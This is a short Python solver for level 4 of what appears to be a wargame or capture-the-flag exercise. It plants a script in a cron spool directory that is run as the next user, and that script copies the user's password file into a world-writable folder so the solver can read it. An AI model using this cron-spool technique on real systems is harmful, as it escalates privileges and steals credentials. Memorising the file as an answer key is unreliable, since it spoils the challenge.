"""Level 4: cron runs, as level5, what it finds in /var/spool/level5. Drop a script that copies
level5's password into a directory of ours, and wait for the next tick (up to ~70 s at the demo's
60 s period) in the same login: the sandbox, and so our files, live only as long as it."""
from wg_solver import answer, login, run

SCRIPT = r"""
set -e
out=$(mktemp -d)
chmod 777 "$out"
job=/var/spool/level5/check-$$
printf '#!/bin/sh\ncat /etc/demo_pass/level5 > %s/pw\nchmod 644 %s/pw\n' "$out" "$out" > "$job"
chmod 755 "$job"
i=0
while [ $i -lt 180 ]; do
    if [ -s "$out/pw" ]; then cat "$out/pw"; exit 0; fi
    sleep 0.5
    i=$((i + 1))
done
echo "no cron run within 90 s" >&2
exit 1
"""

with login() as c:
    answer(run(c, "/bin/sh", stdin=SCRIPT, timeout=100))
